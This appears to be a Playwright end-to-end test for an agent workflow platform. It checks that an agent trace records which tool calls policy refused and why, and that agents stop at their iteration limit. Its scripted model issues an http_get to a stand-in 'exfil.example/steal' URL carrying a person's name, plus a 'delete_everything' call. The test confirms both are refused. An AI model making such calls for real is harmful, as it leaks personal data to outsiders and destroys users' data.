import { rmSync } from "node:fs";
import { expect, type Page, test } from "@playwright/test";
import { LIMIT_WRAP_UP_MESSAGE } from "../../../packages/agent/src/loop/agent-loop";
import {
  type RecordedRequest,
  type ScriptedLlmServer,
  type ScriptedReply,
  startScriptedLlmServer,
} from "../../../packages/agent/src/testing/scripted-llm-server";
import { useSession } from "./support/auth";
import { type RunningServer, startServer, tempDataDir, trpc } from "./support/server";
import { shot } from "./support/shot";

let server: RunningServer;
let llm: ScriptedLlmServer;
let dir: string;
test.describe.configure({ mode: "serial" });
test.use({ viewport: { width: 1440, height: 900 } });

const ANSWER = "Dana Reyes is the renewal contact at Harbor (memory).";
/** How the scripted model behaves: `trace` calls allowed and refused tools once, then answers; `loop` never stops calling tools. */
let mode: "trace" | "loop" = "trace";
function reply(req: RecordedRequest): ScriptedReply {
  const messages = req.body.messages as { role: string; content: string | null }[];
  const last = messages.at(-1)!;
  const usage = { promptTokens: 40, completionTokens: 8 };
  if (mode === "loop")
    return last.content === LIMIT_WRAP_UP_MESSAGE
      ? { content: "Probably a bug, but I did not finish.", usage }
      : { toolCalls: [{ name: "memory_recall", arguments: { query: "crash on save" } }], usage };
  if (last.role === "tool") return { content: ANSWER, usage };
  return {
    toolCalls: [
      { id: "c1", name: "memory_recall", arguments: { query: "Dana Reyes" } },
      { id: "c2", name: "http_get", arguments: { url: "https://exfil.example/steal?d=dana" } },
      { id: "c3", name: "delete_everything", arguments: {} },
    ],
    usage,
  };
}

test.beforeAll(async () => {
  dir = tempDataDir();
  server = await startServer(dir);
  llm = await startScriptedLlmServer(reply);
  await trpc(
    server.url,
    "settings.llm.set",
    { baseUrl: llm.url, models: { burst: "tiny-model", default: "main-model" } },
    "mutation",
  );
});
test.afterAll(async () => {
  await llm?.close();
  await server?.stop();
  rmSync(dir, { recursive: true, force: true });
});

const agentFlow = (agentRef: string) => ({
  nodes: [
    { id: "start", type: "trigger.manual", name: "Start", config: {}, position: { x: 0, y: 0 } },
    {
      id: "ask",
      type: "agent",
      name: "Ask the agent",
      config: { agent_ref: agentRef, prompt: "Who is Dana Reyes?", input_context: "=item" },
      position: { x: 320, y: 0 },
    },
  ],
  edges: [{ from: { node: "start", port: "main" }, to: { node: "ask", port: "main" } }],
});

type RunGet = { status: string };
async function runToEnd(flowId: string): Promise<{ runId: string; status: string }> {
  const { runId } = await trpc<{ runId: string }>(
    server.url,
    "flow.run",
    { id: flowId, payload: {} },
    "mutation",
  );
  const deadline = Date.now() + 30_000;
  for (;;) {
    const run = await trpc<RunGet>(server.url, "run.get", { id: runId });
    if (["succeeded", "failed", "cancelled"].includes(run.status)) return { runId, status: run.status };
    if (Date.now() > deadline) throw new Error(`run ${runId} still ${run.status}`);
    await new Promise((r) => setTimeout(r, 100));
  }
}

async function openAgentStep(page: Page, runId: string) {
  await page.goto(`${server.url}/runs/${runId}`);
  await page.locator("[data-testid=run-node][data-node-id='ask']").click();
  await expect(page.getByTestId("step-inspector")).toHaveAttribute("data-node-id", "ask");
}

test("an agent step's trace shows which calls policy refused and why, what the allowed call returned, and the stop reason", async ({
  page,
}, testInfo) => {
  mode = "trace";
  const { id } = await trpc<{ id: string }>(
    server.url,
    "flow.create",
    { name: "Who is Dana", definition: agentFlow("flow_memory_agent") },
    "mutation",
  );
  const { runId, status } = await runToEnd(id);
  expect(status).toBe("succeeded");

  await useSession(page, server.url);
  await openAgentStep(page, runId);
  const trace = page.getByTestId("agent-trace");
  const turn = trace.locator("[data-testid=agent-turn-card][data-agent-id='flow_memory_agent']");
  await expect(turn).toBeVisible();
  // Who ran, under which policy.
  await expect(turn).toContainText("worker");
  await expect(turn).toContainText("tiny-model");
  await expect(turn.getByTestId("turn-ceiling")).toHaveText(/^channel manual: up to read_only/);
  await expect(turn.getByTestId("policy-allowed")).toHaveText(
    "allowed: memory_flavour, memory_hybrid_search, memory_recall",
  );
  // Two model calls with their tokens, the three tool calls in between.
  await expect(turn.getByTestId("llm-call")).toHaveCount(2);
  await expect(turn.getByTestId("llm-tokens").first()).toHaveText("40 in · 8 out tokens");
  await expect(turn.getByTestId("refused-count")).toHaveText("2 refused");

  const call = (name: string) => turn.locator(`[data-testid=tool-call][data-tool='${name}']`);
  await expect(call("memory_recall")).toHaveAttribute("data-outcome", "executed");
  await expect(call("memory_recall").getByTestId("tool-decision")).toHaveText("allowed");
  await expect(call("memory_recall").getByTestId("tool-result")).toContainText("returned:");
  await expect(call("memory_recall")).toContainText('args: {"query":"Dana Reyes"}');
  for (const [refused, decision, why] of [
    ["http_get", "hidden", "Why: not in the agent's visible tool list"],
    ["delete_everything", "not a tool of this agent", "Why: not a tool of this agent (fail closed)"],
  ] as const) {
    await expect(call(refused).getByTestId("tool-refusal-reason")).toHaveText(why);
    await expect(call(refused)).toHaveAttribute("data-outcome", "refused");
    await expect(call(refused)).toContainText("refused");
    await expect(call(refused).getByTestId("tool-decision")).toHaveText(decision);
    await expect(call(refused).getByTestId("tool-refusal")).toContainText(`\`${refused}\``);
    await expect(call(refused).getByTestId("tool-result")).toHaveCount(0);
  }
  await expect(call("http_get")).toContainText("exfil.example");
  await expect(turn.getByTestId("turn-stop")).toHaveText("Finished: the model gave its final answer.");
  await expect(page.getByTestId("agent-turn-trace")).toHaveCount(0);
  await shot(page, testInfo, "agent-trace");

  // The stored JSON is one click away.
  await trace.getByRole("button", { name: "Raw JSON" }).click();
  await expect(page.getByTestId("agent-turn-trace")).toHaveCount(1);
  await expect(page.getByTestId("agent-turn-trace")).toContainText("Agent turn 1");
  await trace.getByRole("button", { name: "Show timeline" }).click();
  await expect(turn).toBeVisible();
});

test("the agent node picks from the loaded agents, flags an unknown one at save and activation, and fails at the iteration limit unless on_limit says otherwise", async ({
  page,
}, testInfo) => {
  mode = "loop";
  const { id } = await trpc<{ id: string }>(
    server.url,
    "flow.create",
    { name: "Triage tickets", definition: agentFlow("support_triage") },
    "mutation",
  );
  await useSession(page, server.url);
  await page.goto(`${server.url}/flows/${id}`);
  await expect(page.getByTestId("flow-editor")).toHaveAttribute("data-loaded", "true");
  const agentNode = page.locator(".react-flow__node[data-id='ask']");
  await expect(agentNode.getByTestId("node-problems")).toContainText('no agent "support_triage" is loaded');

  // Activation is refused, naming the node, the ref and the agents that exist.
  await page.getByLabel("Active", { exact: true }).click();
  await expect(page.getByTestId("notice")).toContainText(
    'node "ask" field "agent_ref": no agent "support_triage" is loaded; known agents: classifier, context_scout, drafter, flow_memory_agent, operator, orchestrator, planner, researcher, support_responder',
  );
  await expect(page.getByLabel("Active", { exact: true })).not.toBeChecked();

  await agentNode.click();
  const picker = page.getByLabel("Agent", { exact: true });
  await expect(picker).toHaveValue("support_triage");
  await expect(picker.locator("option:checked")).toHaveText("support_triage (not loaded)");
  await expect(page.getByTestId("field-problem")).toContainText('no agent "support_triage" is loaded');
  await expect(picker.locator("option")).toHaveText([
    "Choose an agent…",
    "support_triage (not loaded)",
    "Classifier (classifier)",
    "Context Scout (context_scout)",
    "Drafter (drafter)",
    "Flow Memory Agent (flow_memory_agent)",
    "Operator (operator)",
    "Master Agent (orchestrator)",
    "Planner (planner)",
    "Researcher (researcher)",
    "Support Responder (support_responder)",
  ]);
  await picker.selectOption({ label: "Classifier (classifier)" });
  await expect(page.getByTestId("agent-when-to-use")).toContainText("Labels one input into the categories");
  await expect(agentNode.getByTestId("node-problems")).toHaveCount(0);
  await expect(page.getByTestId("field-problem")).toHaveCount(0);
  await expect(page.getByLabel("On limit", { exact: true })).toHaveValue("");
  await shot(page, testInfo, "agent-picker");
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await expect(page.getByTestId("notice")).toContainText("Saved version 2.");

  // The classifier (max_iterations 1) keeps asking for tools: by default the step fails, saying so.
  const failed = await runToEnd(id);
  expect(failed.status).toBe("failed");
  await openAgentStep(page, failed.runId);
  await expect(page.getByTestId("step-error-message")).toHaveText(
    'agent "classifier" stopped at its iteration limit (1) without a final answer; set on_limit to "return_partial" to pass on its partial answer',
  );
  await expect(page.getByTestId("turn-stop")).toHaveText(
    "Stopped at its iteration limit (1): the answer is a forced wrap-up without tools and may be incomplete.",
  );
  await shot(page, testInfo, "limit-failed");

  // Opting in passes the partial answer on, marked limit_stop.
  await page.goto(`${server.url}/flows/${id}`);
  await expect(page.getByTestId("flow-editor")).toHaveAttribute("data-loaded", "true");
  await page.locator(".react-flow__node[data-id='ask']").click();
  await page.getByLabel("On limit", { exact: true }).selectOption({ label: "return_partial" });
  await page.getByRole("button", { name: "Save", exact: true }).click();
  await expect(page.getByTestId("notice")).toContainText("Saved version 3.");
  const partial = await runToEnd(id);
  expect(partial.status).toBe("succeeded");
  await openAgentStep(page, partial.runId);
  await expect(page.getByTestId("step-output-main")).toContainText("limit_stop");
});
